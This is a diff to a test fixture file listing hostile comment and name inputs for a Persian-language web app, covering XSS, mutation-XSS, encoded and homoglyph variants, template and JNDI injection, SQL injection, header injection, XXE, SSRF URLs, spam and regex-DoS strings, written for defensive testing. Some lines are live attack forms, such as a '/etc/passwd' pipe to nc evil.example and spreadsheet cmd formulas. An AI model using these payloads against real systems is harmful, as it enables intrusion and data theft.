@@ -1,3 +1,257 @@
+/** Out of an attribute, a script, a style or a text area, and into the page's own names. */
+const intoAttributes: readonly string[] = [
+  `" autofocus onfocus="window.wrong=1" x="`,
+  `' onmouseover='window.wrong=1' style='position:fixed;inset:0'`,
+  '` onfocus=window.wrong=1 autofocus `',
+  '</style><img src=x onerror=window.wrong=1>',
+  '</title></head><body onload=window.wrong=1>',
+  '--><img src=x onerror=window.wrong=1><!--',
+  '"}</script><script>window.wrong=1</script>{"',
+  '<form id=comments><input name=action><input name=attributes></form>',
+  '<img name=querySelector><img name=body><a id=location href=x>',
+  '<form action=//evil.example><input name=password><button>ورود',
+  '<button form=comment-form formaction=//evil.example>فرستادن',
+  '<base href=//evil.example/><a href=x>پیوند</a>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<style>@import "//evil.example/x.css";*{display:none}</style>',
+  '<p style="background:url(//evil.example/x)">رد پا</p>',
+  '<dialog open>دوباره وارد شوید</dialog>',
+  '<slot name=x></slot><template shadowrootmode=open><script>window.wrong=1</script></template>',
+  '<input type=hidden name=_csrf accesskey=x onclick=window.wrong=1>',
+]
+
+/** What a cleaner that parses and prints lets through at the second reading. */
+const reparsed: readonly string[] = [
+  '<svg></p><style><a id="</style><img src=1 onerror=window.wrong=1>">',
+  '<noscript><p title="</noscript><img src=x onerror=window.wrong=1>">',
+  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.wrong=1 src>">',
+  '<math><annotation-xml encoding="text/html"><img src=x onerror=window.wrong=1></annotation-xml></math>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.wrong=1</script>"></iframe></foreignObject></svg>',
+  '<select><iframe></select><img src=x onerror=window.wrong=1>',
+  '<table><td><math><mtext><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.wrong=1&gt;">',
+  '<svg><desc><![CDATA[</desc><script>window.wrong=1</script>]]></svg>',
+  '<!--><img src=x onerror=window.wrong=1>-->',
+  '<!--!><img src=x onerror=window.wrong=1>',
+  '<![CDATA[<img src=x onerror=window.wrong=1>]]>',
+  '<?xml version="1.0"?><?php echo 1 ?><script>window.wrong=1</script>',
+  '<xss contenteditable onblur=window.wrong=1 tabindex=1 id=x>',
+  '<a <!-- href=x>--> onclick=window.wrong=1>',
+  '<img src="x` `<script>window.wrong=1</script>"` `>',
+  '<scr<script>ipt>window.wrong=1</scr</script>ipt>',
+  '<<script>script>window.wrong=1//<</script>',
+  '<script/x>window.wrong=1</script/y>',
+]
+
+/** The same in other spellings. */
+const encoded: readonly string[] = [
+  '&#x3c;script&#x3e;window.wrong=1&#x3c;/script&#x3e;',
+  '&#0000060script&#0000062window.wrong=1',
+  '%3Cscript%3Ewindow.wrong=1%3C/script%3E',
+  '%253Cscript%253Ewindow.wrong=1',
+  '\\u003cscript\\u003ewindow.wrong=1\\u003c/script\\u003e',
+  '\\x3cimg src=x onerror=window.wrong=1\\x3e',
+  '+ADw-script+AD4-window.wrong=1+ADw-/script+AD4-',
+  '＜script＞window.wrong=1＜/script＞',
+  '‹script›window.wrong=1‹/script›',
+  '<scr\u0000ipt>window.wrong=1</scr\u0000ipt>',
+  '<im\u00adg src=x onerror=window.wrong=1>',
+  '<\u200bscript>window.wrong=1</script>',
+  '<ſcript>window.wrong=1</ſcript> <ıframe>',
+  '<IMG SRC=jav&#x09;ascript:window.wrong=1>',
+  '<a href="&#106;&#97;&#118;&#97;script:window.wrong=1">x</a>',
+  'PHNjcmlwdD53aW5kb3cud3Jvbmc9MTwvc2NyaXB0Pg==',
+]
+
+/** Elements that fetch. */
+const loaded: readonly string[] = [
+  'iframe src=javascript:parent.wrong=1',
+  'iframe srcdoc="<script>parent.wrong=1</script>"',
+  'object data=data:text/html;base64,PHNjcmlwdD5wYXJlbnQud3Jvbmc9MTwvc2NyaXB0Pg==',
+  'embed src=javascript:window.wrong=1',
+  'frame src=javascript:window.wrong=1',
+  'img srcset="x 1x" onerror=window.wrong=1',
+  'picture><source srcset=x><img onerror=window.wrong=1 src=x',
+  'audio src=x onerror=window.wrong=1',
+  'video poster=javascript:window.wrong=1',
+  'svg><use href="data:image/svg+xml,<svg onload=window.wrong=1>"',
+  'svg><animate attributeName=href values=javascript:window.wrong=1',
+  'link rel=import href=data:text/html,x',
+  'portal src=//evil.example',
+  'marquee onstart=window.wrong=1',
+  'img src=//evil.example/pixel?c=1 width=1 height=1',
+].map((inside) => `<${inside}>`)
+
+/** What is no mark-up here, and is elsewhere. */
+const asMarkup: readonly string[] = [
+  '[بزن](javascript:window.wrong=1)',
+  '[بزن](https://example.org "onmouseover=window.wrong=1")',
+  '![x](x"onerror="window.wrong=1)',
+  '<javascript:window.wrong=1>',
+  '[x]: javascript:window.wrong=1\n\n[x]',
+  '[url=javascript:window.wrong=1]بزن[/url] [img]x[/img]',
+  '```html\n<script>window.wrong=1</script>\n```',
+  '# سرتیتر\n\n- بند\n\n> نقل **پررنگ** ~~خط~~',
+  '@here @everyone /cc #برچسب',
+  '<bdo dir=rtl>وارونه</bdo> <bdi>',
+  'آوردن نام دیگری: </bdi></h3></article></li></ol></section><h1>بیانیهٔ دفتر</h1>',
+]
+
+/** Addresses that lead elsewhere than they say, or run. */
+const asLinks: readonly string[] = [
+  'JaVaScRiPt:window.wrong=1',
+  'java\u200bscript:window.wrong=1',
+  'https:javascript:window.wrong=1',
+  'https://javascript:window.wrong=1',
+  'https:///evil.example https:/evil.example https:evil.example',
+  'https://example.org@evil.example/ https://example.org%40evil.example/',
+  'https://user:password@evil.example/',
+  'https://example.org\\@evil.example/',
+  'https://example.org:80:443/ https://example.org:99999/',
+  'https://[::1]/ https://[fe80::1%25eth0]/ http://0x7f.1/ http://2130706433/',
+  'https://аррӏе.example/ https://xn--80ak6aa92e.example/',
+  'https://example.org/\u202egnp.exe',
+  'https://example.org/?q=<script>window.wrong=1</script>',
+  'https://example.org/#"><img src=x onerror=window.wrong=1>',
+  'https://exa\u200cmple.org/ https://example。org/',
+  'https://example.org/%0d%0aSet-Cookie:x=1',
+  'http://169.254.169.254/latest/meta-data/ gopher://127.0.0.1:25/_HELO',
+  'file:///etc/passwd ftp://example.org/x blob:https://example.org/x',
+  'intent://x#Int;scheme=x;end tel:+98 sms:1;?&body=x mailto:a@b.example?bcc=c@d.example',
+  'https://% https://%zz/ https://. https://..',
+  `https://example.org/${'a'.repeat(2000)}`,
+  `https://${'a.'.repeat(200)}example/`,
+]
+
+/** What would be run by a template, a shell, a logger or a spreadsheet. */
+const asPrograms: readonly string[] = [
+  '{{7*7}} ${7*7} #{7*7} <%= 7*7 %> *{7*7} @(7*7) {%if 1%}',
+  "{{_self.env.registerUndefinedFilterCallback('exec')}}",
+  "{{''.__class__.__mro__[1].__subclasses__()}}",
+  '${jndi:ldap://evil.example/x} ${${lower:j}ndi:dns://evil.example}',
+  '() { :;}; echo x',
+  '; cat /etc/passwd | nc evil.example 80 & $(id) `id` || true',
+  '%s%s%s%n %x %p %1000000d',
+  '=HYPERLINK("//evil.example?"&A1,"بزن")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3+cmd|x',
+  '@SUM(1+1)*cmd|x',
+  '\u001b]0;عنوان\u0007\u001b[2J\u001b[31mپایانه',
+  '"],"isStaff":true,"state":"published","x":["',
+  '{"$gt":""} {"$where":"sleep(1000)"}',
+  'name=x&state=published&isPicked=1&account=1',
+  '!!js/function >\n  function(){}',
+  'O:8:"stdClass":1:{s:1:"x";i:1;}',
+  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
+  '*)(uid=*))(|(uid=*',
+]
+
+/** What would end or change a question to a database. */
+const asQueries: readonly string[] = [
+  "' or '1'='1",
+  '" or ""="',
+  "x' union select id, name, passwordHash from account --",
+  "'; update comment set state='published'; --",
+  "'; select pg_sleep(10); --",
+  "1' and (select count(*) from account) > 0 --",
+  "\\'; drop table comment; --",
+  '$1 $2 ?1 :x @y $$ $tag$ text $tag$',
+  "E'\\\\x27' U&'\\0027' x'27' chr(39)",
+  '%_%_% \\% \\_ [a-z]',
+  '"x" OR NEAR(a b) * ^a - + : (',
+  "'::text::int; begin; commit; pragma writable_schema=1;",
+  '/*!50000 union*/ select /**/ 1',
+  'null NULL undefined NaN true -0 1e309 0x10',
+  "admin'/*",
+]
+
+/** Paths, headers, documents within the text. */
+const asFiles: readonly string[] = [
+  '../../../../etc/passwd ..\\..\\x %2e%2e%2f C:\\x \\\\evil\\x',
+  'x\r\nSet-Cookie: dabir=1\r\n\r\n<script>window.wrong=1</script>',
+  'یک\nBcc: a@b.example\nContent-Type: text/html\n\nدو',
+  '.\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\nDATA',
+  '=?utf-8?B?PHNjcmlwdD4=?= <a@b.example>',
+  'From a@b.example Mon Jan  1 00:00:00 2026',
+  '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
+  '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
+  '<rss><channel><item><title>x</title></item></channel></rss>',
+  'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n',
+  '-----BEGIN PRIVATE KEY-----\nx\n-----END PRIVATE KEY-----',
+  'GIF89a/*<svg onload=window.wrong=1>*/=1;',
+  '%PDF-1.7 %âãÏÓ',
+]
+
+/** Letters that are not seen, that turn the line, or that are none. */
+const unseen: readonly string[] = [
+  ...['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'].map(
+    (sign) => `پیش ${sign} پس از نشانهٔ ${sign.codePointAt(0)?.toString(16)}`,
+  ),
+  'نشان\u200eهای \u200fسوی\u061c متن',
+  'دو\u2028سطر\u2029جدا',
+  'سطر\u000bدیگر\u000cو صفحه\u0085پایان',
+  'نا\ufeffدیدنی\u2060ها\u2063 در\u2064 میان',
+  'نانویسه‌ها \ufffe \uffff \u{1fffe} \u{10ffff}',
+  'نهان\u{e0068}\u{e0069}\u{e007f} در برچسب‌ها',
+  'ناشناس \ue000 \u{f0000} \u{100000}',
+  'گونه‌ها ✍\ufe0f ✍\ufe0e ا\ufe00\ufe01',
+  'پرکننده \u115f\u1160\u3164\uffa0 هنگول',
+  '\ud83d نیمه و \ude00 نیمه',
+  `${'\u200c\u200d'.repeat(400)} پیوندهای پیاپی`,
+  'می\u200cخواهم می\u200dخواهم می\u00adخواهم',
+  'يك كلمهٔ عربي و یک کلمهٔ فارسی',
+  'mنزل منzل پаyمنت',
+  '𝐛𝐨𝐥𝐝 ⓒⓘⓡⓒⓛⓔ ｆｕｌｌ ʇxǝʇ',
+]
+
+/** Letters that take more room than they have, and texts that once brought programs down. */
+const tall: readonly string[] = [
+  `ن${'\u0651\u064b'.repeat(60)} برج`,
+  `ก${'็'.repeat(100)} برج تای`,
+  `ཧ${'ྐྵ'.repeat(60)} تبتی`,
+  '﷽'.repeat(50),
+  '𒐫'.repeat(50),
+  '⸻'.repeat(50),
+  'జ్ఞ\u200cా',
+  'لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗',
+  '\u0647\u200d'.repeat(300),
+  'ـ'.repeat(1500),
+  '👩‍👩‍👧‍👦'.repeat(120),
+  '🇮🇷'.repeat(400),
+  '1\u20e3'.repeat(500),
+  `${'🏴󠁧󠁢󠁥󠁮󠁧󠁿'.repeat(50)}`,
+]
+
+/** What is sold. */
+const selling: readonly string[] = [
+  'خرید فالوور واقعی ارزان ⭐ کانال @x_example ⭐ ۰۹۱۲۰۰۰۰۰۰۰',
+  'ک ا ن ا ل   م ا   د ر   ت ل گ ر ا م',
+  'س‌ا‌ی‌ت ش.ر.ط ب_ن_د_ی بدون فیلتر 👇👇👇',
+  'درآمد روزانه ۵ میلیون www.example.com example.ir example.shop',
+  `${'لینک https://spam.example/ '.repeat(60)}`,
+  `${'VIAGRA '.repeat(200)}`,
+  'Great post! Visit my site <a href="https://spam.example">cheap</a> [url=https://spam.example]x[/url]',
+  `${'خ'.repeat(1500)}وب`,
+]
+
+/** What makes a slow search slow. */
+const endless: readonly string[] = [
+  `a${' '.repeat(2900)}b`,
+  `${'-'.repeat(2900)}`,
+  `${'a-'.repeat(1400)}`,
+  `${'www.'.repeat(700)}`,
+  `${'a.ir '.repeat(580)}`,
+  `${'ا a '.repeat(700)}`,
+  `${'م.'.repeat(1400)}`,
+  `${'a\n\n'.repeat(900)}a`,
+  `${'"\'`('.repeat(700)}`,
+  `${'&amp;'.repeat(580)}`,
+  `${'\\'.repeat(2900)}`,
+  `${'<a '.repeat(900)}`,
+  `${'}{'.repeat(1400)}`,
+]
+
 /** What strangers try, as the text of a comment. Each stays what it is: text. */
 export const hostileTexts: readonly string[] = [
   ...[
@@ -49,6 +303,19 @@ export const hostileTexts: readonly string[] = [
   `${'https://'.repeat(300)}`,
   '__proto__',
   'constructor[prototype][x]=1',
+  ...intoAttributes,
+  ...reparsed,
+  ...encoded,
+  ...loaded,
+  ...asMarkup,
+  ...asLinks,
+  ...asPrograms,
+  ...asQueries,
+  ...asFiles,
+  ...unseen,
+  ...tall,
+  ...selling,
+  ...endless,
   'می‌خواهم نیم‌فاصله‌هایم بماند',
 ]
 
@@ -80,6 +347,24 @@ export const hostileNames: readonly string[] = [
   'شهرداری ساحل آباد',
   'City Hall of Sahelabad',
   'СitY Hall оf Sahelabad',
+  'ﺳﺎﺭﺍ',
+  'س\u200dارا',
+  'س ا ر ا',
+  'س.ا.ر.ا',
+  'سارااا',
+  '\u202eسارا\u202c',
+  '✔ سارا',
+  'بہروز',
+  'بـهـروز',
+  'بهر\u0648\u064fز',
+  '٭بهروز٭',
+  'شهرداري ساحل آباد',
+  'شهردارى‌ساحل‌اباد',
+  'Ｃity Hall of Sahelabad',
+  '𝐂𝐢𝐭𝐲 𝐇𝐚𝐥𝐥 𝐨𝐟 𝐒𝐚𝐡𝐞𝐥𝐚𝐛𝐚𝐝',
+  'City Hаll оf Sаhelаbаd',
+  'Clty-Hall-of-Sahelabad ✓',
+  'C1ty\u200bHall of Sahelabad',
 ]
 
 /** Names that are odd and stay as they are. */
@@ -89,6 +374,15 @@ export const oddNames: readonly string[] = [
   'Bcc: x@y.example',
   '\u202eوارونه',
   '&lt;b&gt;',
+  'javascript:window.wrong=1',
+  '${7*7}{{7*7}}',
+  "' or 1=1 --",
+  '=HYPERLINK("//evil.example")',
+  'نام\nدوسطری',
+  '</bdi></h3></article><h1>دفتر</h1>',
+  'https://spam.example/',
+  '\ud83dنیمه',
+  '👩‍👩‍👧‍👦👩‍👩‍👧‍👦',
 ]
 
 /** What may come in place of a proof of work. */
